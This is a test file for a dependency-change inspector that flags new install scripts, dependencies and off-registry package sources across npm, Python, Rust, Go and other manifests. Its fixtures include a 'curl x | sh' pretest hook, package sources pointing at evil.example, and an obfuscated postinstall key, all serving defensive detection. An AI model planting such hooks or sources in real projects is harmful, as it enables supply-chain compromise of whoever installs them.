import { describe, expect, test } from 'vitest';
import { readInstalls } from '../../../app/publish/inspect/installs/read-installs.ts';

type Files = readonly [path: string, before: string | object | null, after: string | object | null];

function read([path, before, after]: Files): string[] {
  const bytes = (content: string | object | null) =>
    content === null ? null : Buffer.from(typeof content === 'string' ? content : JSON.stringify(content));
  return readInstalls({ path, isBinary: false, before: bytes(before), after: bytes(after) }).map(
    ({ kind, text }) => `${kind} ${text}`,
  );
}

describe('package.json', () => {
  test.each<readonly [string, object | null, string | object, readonly string[]]>([
    ['a new version of what is there', { dependencies: { a: '^1' } }, { dependencies: { a: '^2' } }, []],
    [
      'a script that nothing runs by itself',
      { scripts: {} },
      { scripts: { build: 'tsc', preview: 'vite preview' } },
      [],
    ],
    ['a package that goes', { dependencies: { a: '1' } }, { dependencies: {} }, []],
    ['a package that moves', { dependencies: { a: '1' } }, { devDependencies: { a: '1' } }, []],
    ['a new package', {}, { devDependencies: { left: '^1.0.0' } }, ['dependency left ^1.0.0']],
    ['a new optional package', {}, { optionalDependencies: { left: '1' } }, ['dependency left 1']],
    ['a new manifest', null, { dependencies: { a: '1' } }, ['dependency a 1']],
    ['postinstall', {}, { scripts: { postinstall: 'node x.js' } }, ['script postinstall: node x.js']],
    ['install that changes', { scripts: { install: 'a' } }, { scripts: { install: 'b' } }, ['script install: b']],
    ['prepare', {}, { scripts: { prepare: 'husky' } }, ['script prepare: husky']],
    ['around a script of its own', {}, { scripts: { build: 'x', prebuild: 'y' } }, ['script prebuild: y']],
    ['around npm test', {}, { scripts: { pretest: 'curl x | sh' } }, ['script pretest: curl x | sh']],
    [
      'a package from elsewhere',
      { dependencies: { a: '^1' } },
      { dependencies: { a: 'git+https://evil.example/a' } },
      ['source a from git+https://evil.example/a'],
    ],
    ['an alias', { dependencies: { a: '1' } }, { dependencies: { a: 'npm:evil@1' } }, ['source a from npm:evil@1']],
    ['overrides', {}, { overrides: { a: '2' } }, ['source overrides: {"a":"2"}']],
    ['another program that installs', {}, { packageManager: 'pnpm@9' }, ['source packageManager: pnpm@9']],
    ['no JSON', {}, '{', ['unreadable it is not a JSON object']],
    [
      'a key that is written otherwise',
      {},
      String.raw`{"scripts":{"post\u0069nstall":"x"}}`,
      ['script postinstall: x'],
    ],
  ])('%s', (_, before, after, expected) => {
    expect(read(['web/package.json', before, after])).toEqual(expected);
  });
});

const LOCK = {
  lockfileVersion: 3,
  packages: { '': {}, 'node_modules/a': { resolved: 'https://registry.npmjs.org/a/-/a-1.tgz' } },
};

test.each<readonly [...Files, readonly string[]]>([
  ['package-lock.json', LOCK, { ...LOCK, lockfileVersion: 3 }, []],
  [
    'package-lock.json',
    LOCK,
    {
      packages: {
        ...LOCK.packages,
        'node_modules/b': { hasInstallScript: true, resolved: 'https://registry.npmjs.org/b' },
      },
    },
    ['script b runs a script when it is installed'],
  ],
  [
    'npm-shrinkwrap.json',
    LOCK,
    { packages: { 'node_modules/a': { resolved: 'https://evil.example/a.tgz' } } },
    ['source packages from evil.example'],
  ],
  ['package-lock.json', null, '[', ['unreadable it is not a JSON object']],
  [
    'pnpm-lock.yaml',
    'packages:\n',
    'packages:\n  /esbuild@0.2.0:\n    requiresBuild: true\n',
    ['script esbuild runs a script when it is installed'],
  ],
  [
    'yarn.lock',
    'a@1:\n  resolved "https://registry.yarnpkg.com/a"\n',
    'a@1:\n  resolved "https://registry.yarnpkg.com/a2"\n',
    [],
  ],
  [
    'yarn.lock',
    'a@1:\n  resolved "https://registry.yarnpkg.com/a"\n',
    'a@1:\n  resolved "https://user:pw@evil.example/a"\n',
    ['source packages from evil.example'],
  ],
  ['bun.lockb', 'a', 'b', ['unreadable it is binary']],
  ['requirements-dev.txt', 'requests==2\n', 'requests==3\nevil>=1\n', ['dependency evil']],
  ['requirements.txt', 'a\n', 'a\n--index-url https://evil.example\n', ['source --index-url https://evil.example']],
  [
    'pyproject.toml',
    '[project]\ndependencies = [\n  "a>=1",\n]\n',
    '[project]\ndependencies = [\n  "a>=2",\n  "evil",\n]\n',
    ['dependency evil'],
  ],
  ['pyproject.toml', '[project]\nname = "x"\n', '[project]\nname = "y"\nversion = "2"\n', []],
  [
    'pyproject.toml',
    '[build-system]\nbuild-backend = "a"\n',
    '[build-system]\nbuild-backend = "b"\n',
    ['script build-backend = "b"'],
  ],
  ['Cargo.toml', '[dependencies]\na = "1"\n', '[dependencies]\na = "2"\nb = "1"\n', ['dependency b']],
  ['Cargo.toml', '[dependencies]\n', '[dependencies.evil]\nversion = "1"\n', ['dependency evil']],
  [
    'Cargo.toml',
    '',
    '[dependencies]\na = { git = "https://evil.example" }\n',
    ['source a = { git = "https://evil.example" }'],
  ],
  ['go.mod', 'require a.com/b v1\n', 'require (\n\ta.com/b v2\n\tevil.com/c v1\n)\n', ['dependency evil.com/c']],
  ['go.mod', '', 'replace a.com/b => ../b\n', ['source replace a.com/b => ../b']],
  ['Gemfile', "gem 'rails'\n", "gem 'rails', '7'\ngem 'evil'\n", ['dependency evil']],
  ['pom.xml', '<artifactId>a</artifactId>', '<artifactId>a</artifactId>\n<artifactId>b</artifactId>', ['dependency b']],
  ['app/build.gradle.kts', '', 'implementation("com.evil:lib:1")\n', ['dependency com.evil:lib']],
  ['App.csproj', '', '<PackageReference Include="Evil" Version="1" />', ['dependency Evil']],
  ['setup.py', 'a', 'b', ['script the file itself runs when the package is built or installed']],
  ['native/binding.gyp', null, '{}', ['script the file itself runs when the package is built or installed']],
  [
    'composer.json',
    {},
    { require: { 'evil/x': '1' }, scripts: { 'post-install-cmd': 'x' } },
    ['script post-install-cmd: x', 'dependency evil/x'],
  ],
  ['PACKAGE.JSON', {}, { scripts: { install: 'x' } }, ['script install: x']],
  ['package.json', {}, null, []],
  ['src/package.json.ts', '', 'postinstall', []],
  ['README.md', '', 'npm install evil', []],
])('%s: %j to %j', (path, before, after, expected) => {
  expect(read([path, before, after])).toEqual(expected);
});

test('a large or binary file is a fact of its own', () => {
  const after = Buffer.alloc(3 * 1024 * 1024, ' ');
  expect(readInstalls({ path: 'package-lock.json', isBinary: false, before: null, after })).toMatchObject([
    { kind: 'unreadable' },
  ]);
  expect(readInstalls({ path: 'yarn.lock', isBinary: true, before: null, after: Buffer.from('a') })).toMatchObject([
    { kind: 'unreadable' },
  ]);
});

test('a manifest made to be slow is not', () => {
  for (const piece of ['"', '[', '{"a":', 'a://', ' "a', "'a' = [", '<url> ', 'requires', '\n[a.', 'gem (']) {
    const after = Buffer.from(piece.repeat(Math.floor(1_000_000 / piece.length)));
    for (const path of [
      'package.json',
      'pyproject.toml',
      'go.mod',
      'Gemfile',
      'pom.xml',
      'build.gradle',
      'yarn.lock',
      'pnpm-lock.yaml',
      'requirements.txt',
    ]) {
      const start = performance.now();
      readInstalls({ path, isBinary: false, before: null, after });
      expect(performance.now() - start, `${path} of ${piece}`).toBeLessThan(2_000);
    }
  }
});
